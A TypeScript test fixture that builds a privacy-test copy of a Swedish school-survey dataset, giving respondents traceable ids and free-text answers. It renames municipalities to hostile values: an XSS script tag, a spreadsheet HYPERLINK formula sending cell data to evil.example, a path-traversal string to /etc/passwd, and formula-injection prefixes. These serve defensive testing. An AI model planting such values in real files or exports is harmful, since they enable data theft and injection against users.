// A sensitive copy of the example county for privacy tests: every respondent gets a
// distinctive id and a free-text answer (a column the config does not use, as in real
// exports), and some municipalities get hostile names (HTML, spreadsheet formulas, paths),
// which the population file beside the config uses too (response rates carry them).
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { EXAMPLE_CONFIG, EXAMPLE_CSV } from '../e2e/cli.js';

/** Hostile names for the example's municipalities (Ängsby keeps its name and lends rows to the last four). */
export const RENAMED: Record<string, string> = {
  Björkträsk: '<script>alert(1)</script>',
  Tjärnvik: '=HYPERLINK("http://evil.example/?q="&A1)',
  Myrheden: '../../etc/passwd',
  Lövåsen: 'CON',
};
export const FROM_ANGSBY = ['/tmp/lagesbild-evil', '+SUM(A1:A9)', '-2+3', '@cmd'];
export const HOSTILE_AREAS = [...Object.values(RENAMED), ...FROM_ANGSBY];

/** Every id and free text starts with these, so a leak of any of them is found by one search. */
export const ID_PREFIX = 'RESP-';
export const TEXT_MARKER = 'FRITEXT';

export interface SensitiveData {
  files: string[];
  /** The example's config beside the data, with its population file (befolkning.csv) for the renamed municipalities. */
  config: string;
  ids: string[];
  texts: string[];
  /** Each row's answers (everything but id and free text), as the row has them. */
  answerRuns: string[];
}

export function writeSensitiveData(dir: string): SensitiveData {
  const ids: string[] = [];
  const texts: string[] = [];
  const answerRuns: string[] = [];
  // Pupils per municipality × year × gender × school year: the respondents and a few more.
  const pupils = new Map<string, number>();
  const GENDER: Record<string, string> = { '1': 'Flicka', Flicka: 'Flicka', '2': 'Pojke', Pojke: 'Pojke' };
  const GRADE: Record<string, string> = { '1': 'Åk 9', 'Åk 9': 'Åk 9', '2': 'Gy 2', 'Gy 2': 'Gy 2' };
  const files = EXAMPLE_CSV.map((source, wave) => {
    const [header, ...rows] = parse(readFileSync(source)) as string[][];
    const area = header!.indexOf('kommun');
    const [gender, grade] = ['kon', 'arskurs'].map((c) => header!.indexOf(c));
    let angsby = 0;
    const out = rows.map((row, i) => {
      // One id used twice, for validate's duplicate check (which must name lines, not ids).
      const n = wave * 10_000 + (i === 100 ? 92 : i);
      const id = `${ID_PREFIX}${((n * 2654435761) >>> 0).toString(16)}-${n}`;
      const text = `${TEXT_MARKER} ${n}: på rasten hände något som jag inte har berättat för någon vuxen`;
      const name = row[area]!;
      const renamed = name === 'Ängsby' ? (FROM_ANGSBY[angsby++ % 8] ?? name) : (RENAMED[name] ?? name);
      const next = [id, ...row.slice(1)];
      next[area] = renamed;
      const g = GENDER[row[gender!]!];
      const k = GRADE[row[grade!]!];
      if (g && k) {
        const cell = JSON.stringify([renamed, 2019 + 2 * wave, g, k]);
        pupils.set(cell, (pupils.get(cell) ?? 0) + 1);
      }
      ids.push(id);
      texts.push(text);
      answerRuns.push(row.slice(area + 1).join(','));
      return [...next, text];
    });
    const path = join(dir, `enkat-${2019 + 2 * wave}.csv`);
    writeFileSync(path, stringify([[...header!, 'F99_fritext'], ...out]));
    return path;
  });
  const population = [...pupils].map(([cell, n]) => [...(JSON.parse(cell) as (string | number)[]), Math.ceil(n * 1.3)]);
  writeFileSync(join(dir, 'befolkning.csv'), stringify([['kommun', 'år', 'kön', 'årskurs', 'antal'], ...population]));
  const config = join(dir, 'lagesbild.yaml');
  writeFileSync(config, readFileSync(EXAMPLE_CONFIG, 'utf8'));
  // The files the example config names beside it: its own text, the other source's table and the reference values.
  for (const folder of ['texts', 'kallor']) cpSync(join(dirname(EXAMPLE_CONFIG), folder), join(dir, folder), { recursive: true });
  cpSync(join(dirname(EXAMPLE_CONFIG), 'referensvarden.csv'), join(dir, 'referensvarden.csv'));
  return { files, config, ids, texts, answerRuns };
}
